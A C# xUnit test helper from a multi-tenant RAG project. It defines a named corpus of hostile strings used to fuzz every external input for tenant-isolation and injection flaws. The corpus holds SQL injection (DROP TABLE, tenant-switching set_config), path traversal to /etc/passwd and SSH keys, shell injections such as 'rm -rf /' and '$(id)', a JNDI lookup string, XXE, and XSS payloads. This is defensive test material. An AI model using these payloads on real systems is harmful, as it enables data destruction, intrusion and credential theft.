using Xunit;

namespace TenantRag.Testing;

/// <summary>
/// The one corpus of hostile text that the suite sends through every input from outside (slugs, user ids, titles,
/// file names, multipart part names, query text, JSON fields, route ids, query strings, JWT claims, CLI
/// arguments). Each entry has a stable name, so a theory over <see cref="Names"/> shows one visible case per string
/// and looks the text up with <see cref="Get"/>.
/// </summary>
/// <remarks>
/// The "another tenant" entries are forms of <see cref="OtherTenant"/>: a slug fixed for this test process, which a
/// fixture creates as the tenant that hostile requests must never reach. <c>other-tenant/exact</c> is that slug
/// itself, which some inputs legitimately accept (an admin may look a tenant up); tests decide per input.
/// </remarks>
public static class HostileStrings
{
    /// <summary>Category: SQL and full-text query syntax meant to break out of a literal or a tsquery.</summary>
    public const string Sql = "sql";

    /// <summary>Category: <see cref="OtherTenant"/> in differently-cased, padded, encoded or look-alike forms.</summary>
    public const string OtherTenantForms = "other-tenant";

    /// <summary>Category: relative and absolute paths, backslashes, URLs and database names.</summary>
    public const string Path = "path";

    /// <summary>Category: NUL, CR, LF, ESC, DEL, C1 controls, header injection.</summary>
    public const string Control = "control";

    /// <summary>Category: bidi overrides, zero-width and combining characters, look-alikes, noncharacters.</summary>
    public const string Unicode = "unicode";

    /// <summary>Category: surrogate halves without a partner (no UTF-8 form exists).</summary>
    public const string Surrogate = "surrogate";

    /// <summary>Category: empty, whitespace-only and very long (up to 1 MB).</summary>
    public const string Size = "size";

    /// <summary>Category: percent-encoded, double-encoded, JSON-escaped and entity-encoded variants.</summary>
    public const string Encoded = "encoded";

    /// <summary>Category: shell metacharacters and command-line option look-alikes.</summary>
    public const string Shell = "shell";

    /// <summary>Category: .NET, printf, logging-template and template-engine format strings.</summary>
    public const string Format = "format";

    /// <summary>Category: HTML, script, XML and Markdown link payloads.</summary>
    public const string Markup = "markup";

    /// <summary>The slug of the tenant that hostile input must never reach, fixed for this test process.</summary>
    public static string OtherTenant { get; } = "victim-" + Slugs.RandomLetters(6);

    /// <summary>Every entry, in a stable order.</summary>
    public static IReadOnlyList<HostileString> All { get; } = Build();

    private static readonly Dictionary<string, HostileString> ByName = All.ToDictionary(s => s.Name, StringComparer.Ordinal);

    /// <summary>
    /// Every entry's name, for <c>MemberData</c>. Expose it through a static member of the test class
    /// (<c>public static TheoryData&lt;string&gt; Corpus =&gt; HostileStrings.Names;</c>): the xUnit analyzer crashes on a
    /// <c>MemberType</c> in another assembly.
    /// </summary>
    public static TheoryData<string> Names => new(All.Select(s => s.Name));

    /// <summary>The first entry of each category: a small sample where every case is costly (a CLI process each).</summary>
    public static TheoryData<string> OnePerCategory => new(All.DistinctBy(s => s.Category).Select(s => s.Name));

    /// <summary>The entry named <paramref name="name"/>.</summary>
    public static HostileString Get(string name) =>
        ByName.TryGetValue(name, out var entry) ? entry : throw new ArgumentException($"no hostile string is named '{name}'", nameof(name));

    /// <summary>The names of the entries that satisfy <paramref name="predicate"/>.</summary>
    public static TheoryData<string> NamesWhere(Func<HostileString, bool> predicate) => new(All.Where(predicate).Select(s => s.Name));

    private static List<HostileString> Build()
    {
        var other = OtherTenant;
        var list = new List<HostileString>();
        void Add(string category, string name, string value) => list.Add(new HostileString($"{category}/{name}", category, value));

        Add(Sql, "quote-drop", "x'; DROP TABLE documents; --");
        Add(Sql, "tautology", "' OR '1'='1");
        Add(Sql, "union", "' UNION SELECT tenant_id, title FROM documents --");
        Add(Sql, "identifier-quote", "acme\"; DROP ROLE tenantrag_app; --");
        Add(Sql, "dollar-quote", "$$; DROP SCHEMA auth CASCADE; $$");
        Add(Sql, "set-config", $"'); SELECT set_config('tenantrag.tenant_id', '{other}', false); --");
        Add(Sql, "backslash-quote", "\\'; SELECT pg_sleep(10); --");
        Add(Sql, "stacked", "1; SELECT pg_sleep(10)");
        Add(Sql, "tsquery-syntax", "!(a & b) | <-> :* '");
        Add(Sql, "like-wildcards", "%_%\\");
        Add(Sql, "null-word", "NULL");

        Add(OtherTenantForms, "exact", other);
        Add(OtherTenantForms, "uppercase", other.ToUpperInvariant());
        Add(OtherTenantForms, "capitalised", char.ToUpperInvariant(other[0]) + other[1..]);
        Add(OtherTenantForms, "leading-space", " " + other);
        Add(OtherTenantForms, "trailing-space", other + " ");
        Add(OtherTenantForms, "trailing-newline", other + "\n");
        Add(OtherTenantForms, "trailing-nul", other + "\0");
        Add(OtherTenantForms, "zero-width", other[..3] + "\u200B" + other[3..]);
        Add(OtherTenantForms, "fullwidth", "\uFF56" + other[1..]);
        Add(OtherTenantForms, "cyrillic-i", other.Replace('i', '\u0456'));
        Add(OtherTenantForms, "percent-encoded", "%" + ((int)other[0]).ToString("x2", System.Globalization.CultureInfo.InvariantCulture) + other[1..]);
        Add(OtherTenantForms, "trailing-slash", other + "/");
        Add(OtherTenantForms, "dot-segments", $"x/../{other}");
        Add(OtherTenantForms, "list", $"me,{other}");
        Add(OtherTenantForms, "database-name", "tenantrag_t_" + other.Replace('-', '_'));

        Add(Path, "dot-dot-slash", "../../etc/passwd");
        Add(Path, "dot-dot-backslash", "..\\..\\windows\\win.ini");
        Add(Path, "absolute", "/etc/passwd");
        Add(Path, "windows-drive", "C:\\Windows\\System32\\drivers\\etc\\hosts");
        Add(Path, "unc", "\\\\server\\share\\secret.txt");
        Add(Path, "doubled-dots", "....//....//etc/shadow");
        Add(Path, "dot-dot", "..");
        Add(Path, "dot", ".");
        Add(Path, "home", "~/.ssh/id_rsa");
        Add(Path, "file-url", "file:///etc/passwd");
        Add(Path, "proc", "/proc/self/environ");
        Add(Path, "mixed-separators", "a/..\\../b.txt");

        Add(Control, "nul-inside", "ab\0cd");
        Add(Control, "nul-only", "\0");
        Add(Control, "crlf", "line1\r\nline2");
        Add(Control, "lf", "line1\nline2");
        Add(Control, "cr", "line1\rline2");
        Add(Control, "header-injection", "x\r\nSet-Cookie: session=stolen");
        Add(Control, "escape-sequence", "\u001b[31mred\u001b[0m\u001b]0;title\u0007");
        Add(Control, "bell-backspace", "a\u0007\u0008b");
        Add(Control, "del", "a\u007Fb");
        Add(Control, "c1-next-line", "a\u0085b");
        Add(Control, "c1-csi", "a\u009B31mb");
        Add(Control, "tab", "a\tb");
        Add(Control, "vertical-tab-form-feed", "a\u000B\u000Cb");

        Add(Unicode, "right-to-left-override", "invoice\u202Etxt.exe");
        Add(Unicode, "isolates", "\u2066admin\u2069\u2067x\u2069");
        Add(Unicode, "zero-width-space", "ad\u200Bmin");
        Add(Unicode, "zero-width-joiner", "a\u200D\u200Cb\u2060");
        Add(Unicode, "byte-order-mark", "\uFEFFacme");
        Add(Unicode, "combining-stack", "Z" + string.Concat(Enumerable.Repeat("\u0351\u0352\u0353\u0354\u0355", 40)));
        Add(Unicode, "decomposed", "cafe\u0301");
        Add(Unicode, "fullwidth", "\uFF41\uFF44\uFF4D\uFF49\uFF4E");
        Add(Unicode, "homoglyph", "\u0430dmin");
        Add(Unicode, "emoji-zwj", "\U0001F468\u200D\U0001F469\u200D\U0001F467 family");
        Add(Unicode, "astral", "\U0001D54F\U00010348");
        Add(Unicode, "noncharacters", "a\uFFFE\uFFFFb");
        Add(Unicode, "private-use", "\uE000\uF8FF");
        Add(Unicode, "line-separators", "a\u2028b\u2029c");
        Add(Unicode, "nbsp-only", "\u00A0\u3000\u2007");

        Add(Surrogate, "high-alone", "a\uD800b");
        Add(Surrogate, "low-alone", "a\uDC00b");
        Add(Surrogate, "reversed-pair", "\uDE00\uD83D");
        Add(Surrogate, "high-at-end", "abc\uD83D");

        Add(Size, "empty", string.Empty);
        Add(Size, "space", " ");
        Add(Size, "whitespace-mix", " \t\r\n ");
        Add(Size, "129-characters", new string('u', 129));
        Add(Size, "1001-characters", new string('t', 1001));
        Add(Size, "2001-characters", new string('q', 2001));
        Add(Size, "1-megabyte", new string('a', 1024 * 1024));
        Add(Size, "1-megabyte-of-words", string.Concat(Enumerable.Repeat("lorem ", 1024 * 1024 / 6)));

        Add(Encoded, "percent-sql", "%27%3B%20DROP%20TABLE%20documents%3B--");
        Add(Encoded, "percent-traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd");
        Add(Encoded, "double-percent-traversal", "%252e%252e%252fetc");
        Add(Encoded, "percent-nul", "acme%00.txt");
        Add(Encoded, "percent-crlf", "a%0d%0aSet-Cookie:%20x=y");
        Add(Encoded, "overlong-utf8-slash", "%c0%af%c0%afetc");
        Add(Encoded, "json-breakout", $"\",\"tenant_id\":\"{other}\",\"x\":\"");
        Add(Encoded, "json-unicode-escape", "\\u0000\\u0022\\ud800");
        Add(Encoded, "html-entities", "&#x27;&lt;script&gt;&quot;");
        Add(Encoded, "plus-and-space", "a+b%20c");
        Add(Encoded, "base64-json", "eyJ0ZW5hbnRfaWQiOiJ2aWN0aW0ifQ==");

        Add(Shell, "semicolon-rm", "; rm -rf / #");
        Add(Shell, "command-substitution", "$(id)");
        Add(Shell, "backticks", "`id`");
        Add(Shell, "pipe", "| cat /etc/passwd");
        Add(Shell, "and-and", "&& shutdown -h now");
        Add(Shell, "redirect", "> /tmp/pwned");
        Add(Shell, "glob", "*");
        Add(Shell, "option-lookalike", "--user=root");
        Add(Shell, "short-option", "-rf");
        Add(Shell, "variable", "${HOME}$PATH");
        Add(Shell, "response-file", "@/etc/passwd");

        Add(Format, "dotnet-index", "{0}");
        Add(Format, "dotnet-huge-width", "{0,999999999}");
        Add(Format, "dotnet-braces", "{{}}{");
        Add(Format, "printf", "%s%s%s%n%x%p");
        Add(Format, "logging-placeholder", "{Tenant}{@User}");
        Add(Format, "jndi", "${jndi:ldap://example.invalid/a}");
        Add(Format, "template-engine", "{{7*7}}<%= 7*7 %>#{7*7}");
        Add(Format, "python-named", "%(password)s");

        Add(Markup, "script", "<script>alert(1)</script>");
        Add(Markup, "attribute-breakout", "\"><img src=x onerror=alert(1)>");
        Add(Markup, "comment-open", "<!-- ");
        Add(Markup, "cdata-end", "]]>");
        Add(Markup, "xml-entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        Add(Markup, "javascript-url", "javascript:alert(document.cookie)");
        Add(Markup, "markdown-link", "[click](javascript:alert(1))");
        Add(Markup, "svg", "<svg/onload=alert(1)>");
        return list;
    }
}
